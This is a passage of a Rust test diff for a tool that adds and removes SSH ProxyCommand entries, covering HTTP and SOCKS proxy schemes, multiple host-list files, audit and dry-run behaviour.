+        "Host host1.oracle.com\n    User alice\n\nHost host2.oracle.com\n    User bob\n",
+    );
+    let config_dir = fixture.hosts_path().parent().unwrap().to_path_buf();
+    fs::write(
+        config_dir.join("internal-hosts.txt"),
+        "host1.oracle.com\nhost2.oracle.com other.example.com:3128\n",
+    )
+    .unwrap();
+    fs::write(config_dir.join("cloud-hosts.txt"), "HOST2.oracle.com\n").unwrap();
+    let config_path = config_dir.join("config.toml");
+    let mut config_toml = fs::read_to_string(&config_path).expect("read config.toml");
+    config_toml.insert_str(
+        0,
+        "hosts_files = [\"internal-hosts.txt\", \"cloud-hosts.txt\"]\n",
+    );
+    fs::write(&config_path, config_toml).expect("write config.toml");
+
+    let paths = config::get_hosts_file_paths().expect("hosts file paths");
+    assert_eq!(
+        paths,
+        [
+            config_dir.join("internal-hosts.txt"),
+            config_dir.join("cloud-hosts.txt")
+        ]
+    );
+
+    config::add_ssh_hosts_from_files(
+        &paths,
+        &http_proxy(proxy_host),
+        &config::SshAddOptions::default(),
+    )
+    .expect("add hosts");
+
+    // host2 is listed again in cloud-hosts.txt, so its proxy override is dropped.
+    let proxy = proxy_line(proxy_host);
+    assert_eq!(
+        fixture.read_config(),
+        format!(
+            "Host host1.oracle.com\n    {proxy}\n    User alice\n\nHost host2.oracle.com\n    {proxy}\n    User bob\n"
+        )
+    );
+
+    let status = config::get_ssh_status().expect("ssh status");
+    assert_eq!(status.hosts_paths, paths);
+    assert!(status.hosts_file_exists);
+    assert_eq!(status.hosts, ["host1.oracle.com", "HOST2.oracle.com"]);
+    assert!(status.missing_hosts.is_empty(), "{status:?}");
+
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+    assert!(!fixture.read_config().contains("ProxyCommand"));
+}
+
+#[test]
+fn ssh_add_uses_socks_protocol_for_socks_proxies() {
+    let fixture = SshFixture::new(
+        "host1.oracle.com\nhost2.oracle.com proxy=socks4://legacy.example.com:1080\n",
+        "Host host1.oracle.com\n    User alice\n\nHost host2.oracle.com\n    User bob\n",
+    );
+
+    let proxy =
+        config::ResolvedProxy::new("socks5h://socks.example.com:1080", "socks.example.com:1080");
+    assert_eq!(proxy.scheme, config::ProxyScheme::Socks5);
+    config::add_ssh_hosts(fixture.hosts_path().to_string_lossy().as_ref(), &proxy)
+        .expect("add hosts");
+
+    assert_eq!(
+        fixture.read_config(),
+        "Host host1.oracle.com\n    ProxyCommand /usr/bin/nc -X 5 -x socks.example.com:1080 %h %p\n    User alice\n\nHost host2.oracle.com\n    ProxyCommand /usr/bin/nc -X 4 -x legacy.example.com:1080 %h %p\n    User bob\n"
+    );
+
+    let audit = config::audit_ssh_hosts(
+        &[fixture.hosts_path().to_path_buf()],
+        fixture.config_path(),
+        "socks.example.com:1080",
+    )
+    .expect("audit");
+    assert!(audit.is_clean(), "{audit:?}");
+
+    config::remove_ssh_hosts(DryRun::default()).expect("remove hosts");
+    assert!(!fixture.read_config().contains("ProxyCommand"));
+}
+
+#[test]
+fn proxy_scheme_follows_url_scheme() {
+    for (url, scheme) in [
+        ("http://proxy:8080", config::ProxyScheme::Http),
+        ("https://proxy:8443", config::ProxyScheme::Http),
+        ("proxy:8080", config::ProxyScheme::Http),
+        ("socks4://proxy:1080", config::ProxyScheme::Socks4),
+        ("SOCKS4A://proxy:1080", config::ProxyScheme::Socks4),
+        ("socks5://proxy:1080", config::ProxyScheme::Socks5),
+        ("socks5h://proxy:1080", config::ProxyScheme::Socks5),
+    ] {
+        assert_eq!(config::ProxyScheme::from_url(url), scheme, "{url}");
+    }
+}
+
+#[test]
+fn ssh_dry_run_leaves_config_and_backups_alone() {
+    let proxy_host = "proxy.example.com:8080";
+    let original = "Host host1.oracle.com\n    User alice\n";
+    let fixture = SshFixture::new("host1.oracle.com\n", original);
+    let hosts = fixture.hosts_path().to_string_lossy().into_owned();
+
+    let options = config::SshAddOptions {
+        dry_run: DryRun(true),
+        ..config::SshAddOptions::default()
+    };
+    config::add_ssh_hosts_with(&hosts, &http_proxy(proxy_host), &options).expect("preview add");
+    assert_eq!(fixture.read_config(), original);
+    let ssh_dir = fixture.config_path().parent().expect("ssh dir");
+    assert_eq!(fs::read_dir(ssh_dir).expect("read ssh dir").count(), 1);
+
+    config::add_ssh_hosts(&hosts, &http_proxy(proxy_host)).expect("add hosts");
+    let added = fixture.read_config();
+    config::remove_ssh_hosts(DryRun(true)).expect("preview remove");
+    assert_eq!(fixture.read_config(), added);
+}